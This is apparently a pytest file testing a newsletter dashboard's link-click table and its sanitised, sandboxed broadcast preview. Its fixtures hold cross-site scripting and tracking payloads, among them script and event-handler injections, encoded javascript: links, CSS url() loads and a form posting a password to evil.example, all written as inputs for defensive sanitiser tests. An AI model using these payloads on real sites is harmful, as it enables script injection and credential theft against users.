"""A broadcast's page: its link clicks (Kit's `GET /v4/broadcasts/<id>/clicks`)
and a safe preview of its content (sanitised, images only on request, in a
sandboxed frame under a policy of its own). Against the sandbox over HTTP."""

from __future__ import annotations

import re
from html import unescape

import pytest
import requests

from tests.support.installing import install

ADA = 1001

HOSTILE = """
<p>Dear reader</p>
<script>document.title = 'pwned-script'</script>
<img src="https://tracker.example/open.gif" onerror="alert('pwned-onerror')" alt="Logo">
<a href="javascript:alert('pwned-js')">click me</a>
<a href="JaVaScRiPt&#58;alert('pwned-js2')">and me</a>
<div style="background-image: url('https://tracker.example/css.gif')">styled</div>
<p style="color: red; background: url(https://tracker.example/bg.gif)">bg</p>
<style>body { background: url(https://tracker.example/sheet.gif) }</style>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<svg onload="alert('pwned-svg')"><script>alert('pwned-svg-script')</script></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<object data="https://evil.example/x.swf"></object>
<link rel="stylesheet" href="https://tracker.example/sheet.css">
<a href="https://example.com/fine">A fine link</a>
"""
FORBIDDEN = (
    "<script",
    "pwned",
    "onerror",
    "onload",
    "javascript:",
    "url(",
    "<base",
    "<meta http-equiv",
    "<svg",
    "<iframe",
    "<form",
    "<input",
    "<object",
    "<link",
    "evil.example",
    # CSS never loads anything, whether images are asked for or not.
    "css.gif",
    "bg.gif",
    "sheet.gif",
    "sheet.css",
)


@pytest.fixture
def ada(client, kit, kit_browser, user):  # type: ignore[no-untyped-def]
    install(client, kit_browser, account=ADA)
    return kit.state.account_data(ADA)


def sent(ada):  # type: ignore[no-untyped-def]
    return max(
        (b for b in ada.broadcasts.values() if b.status == "completed"),
        key=lambda b: b.stats.emails_clicked,
    )


def test_the_sandbox_serves_link_clicks_in_kits_shape(kit):
    from kit_sandbox.testing import real_grant

    token = real_grant(kit, ADA)["access_token"]
    broadcast = sent(kit.state.account_data(ADA))
    body = requests.get(
        f"{kit.url}/v4/broadcasts/{broadcast.id}/clicks",
        headers={"Authorization": f"Bearer {token}"},
        timeout=10,
    ).json()
    assert set(body) == {"broadcast", "pagination"}
    assert body["broadcast"]["id"] == broadcast.id
    clicks = body["broadcast"]["clicks"]
    assert len(clicks) == 2
    assert set(clicks[0]) == {
        "url",
        "unique_clicks",
        "click_to_delivery_rate",
        "click_to_open_rate",
    }
    assert clicks[0]["unique_clicks"] > clicks[1]["unique_clicks"] > 0
    assert 0 < clicks[0]["click_to_delivery_rate"] < 1  # a fraction, as Kit's


def test_a_broadcasts_page_shows_its_link_clicks(client, ada):
    broadcast = sent(ada)
    page = unescape(client.get(f"/c/1/broadcasts/{broadcast.id}").text)
    assert "Link clicks" in page
    delivered = round(broadcast.stats.recipients * broadcast.stats.progress / 100)
    first = f"https://ada.kit.example/posts/{broadcast.id}"
    row = re.search(
        rf"{re.escape(first)}</a></th>\s*<td[^>]*>([\d,]+)</td>\s*<td[^>]*>([\d.]+)%",
        page,
    )
    assert row is not None, page[page.find("Link clicks") :][:1500]
    clicked = int(row.group(1).replace(",", ""))
    assert clicked > 0
    assert row.group(2) == f"{100 * round(clicked / delivered, 4):.1f}"


def test_link_clicks_failing_leave_the_rest_of_the_page(client, kit, ada):
    broadcast = sent(ada)
    kit.state.add_path_fault(f"/v4/broadcasts/{broadcast.id}/clicks", "500")
    page = client.get(f"/c/1/broadcasts/{broadcast.id}")
    assert page.status_code == 200
    text = unescape(page.text)
    assert "Link clicks are unavailable right now" in text
    assert broadcast.subject in text


def test_the_preview_holds_images_back_until_asked(client, ada):
    broadcast = sent(ada)
    page = unescape(client.get(f"/c/1/broadcasts/{broadcast.id}").text)
    assert "1 image held back" in page
    frame = re.search(r'<iframe[^>]*src="([^"]+)"', page)
    assert frame is not None
    assert 'sandbox="allow-popups' in frame.group(0)
    preview = client.get(frame.group(1))
    assert preview.status_code == 200
    assert "images.example" not in preview.text  # no request leaves for it
    assert f'alt="{broadcast.subject}"' in unescape(preview.text)
    policy = preview.headers["Content-Security-Policy"]
    assert "img-src data:;" in policy and "sandbox" in policy
    assert "default-src 'none'" in policy
    assert preview.headers["X-Frame-Options"] == "SAMEORIGIN"
    # "Load images": the page again, its frame now with them.
    load = re.search(r'href="([^"]+)">Load images', page)
    assert load is not None
    again = unescape(client.get(load.group(1)).text)
    assert "Hide images" in again
    frame = re.search(r'<iframe[^>]*src="([^"]+)"', again)
    assert frame is not None and "images=1" in frame.group(1)
    shown = client.get(frame.group(1))
    assert f"https://images.example/broadcasts/{broadcast.id}.jpg" in shown.text
    assert "img-src https: data:" in shown.headers["Content-Security-Policy"]


@pytest.mark.parametrize("images", ["", "1"])
def test_hostile_content_leaves_nothing_that_runs_or_loads(client, ada, images):
    broadcast = sent(ada)
    broadcast.content = HOSTILE
    page = client.get(f"/c/1/broadcasts/{broadcast.id}")
    assert page.status_code == 200
    assert "pwned" not in page.text and "evil.example" not in page.text
    preview = client.get(
        f"/c/1/broadcasts/{broadcast.id}/preview", query_string={"images": images}
    )
    assert preview.status_code == 200
    body = unescape(preview.text).lower()
    for needle in FORBIDDEN:
        assert needle not in body, needle
    # The image loads only once asked for ("Load images"), and without its
    # handler.
    assert ("tracker.example/open.gif" in body) == bool(images)
    # What is safe stays: the text, the fine link (opening a new tab).
    assert "dear reader" in body and "a fine link" in body
    assert 'href="https://example.com/fine"' in body
    assert 'rel="noopener noreferrer nofollow"' in body


def test_preview_of_an_unknown_broadcast_is_a_404(client, ada):
    assert client.get("/c/1/broadcasts/999999/preview").status_code == 404


@pytest.mark.parametrize(
    "hostile",
    [
        '<div style="background:&#117;rl(https://t.example/a)">x</div>',
        '<div style="background:\\75 rl(https://t.example/a)">x</div>',
        '<p style="color:red;background:URL(https://t.example/a)">x</p>',
        '<div style="behavior: url(https://t.example/a.htc)">x</div>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<img srcset="https://t.example/a 1x">',
        '<table background="https://t.example/a"><tr><td>x</td></tr></table>',
        '<noscript><img src="https://t.example/a" onerror="alert(1)"></noscript>',
        '<img src="/c/1/reload" alt="x">',  # relative: would hit this app
    ],
)
def test_the_sanitiser_drops_every_way_to_run_or_load(hostile):
    from app.dashboard.preview import sanitise

    for images in (False, True):
        html = sanitise(hostile, images).html.lower()
        for needle in ("javascript", "t.example", "url(", "onerror", "/c/1/"):
            assert needle not in html, (hostile, html)


def test_the_preview_says_so_when_kit_fails(client, kit, ada):
    broadcast = sent(ada)
    kit.state.add_path_fault(f"/v4/broadcasts/{broadcast.id}", "500")
    preview = client.get(f"/c/1/broadcasts/{broadcast.id}/preview")
    assert preview.status_code == 503
    assert "The preview is unavailable right now." in preview.text
    assert "default-src 'none'" in preview.headers["Content-Security-Policy"]
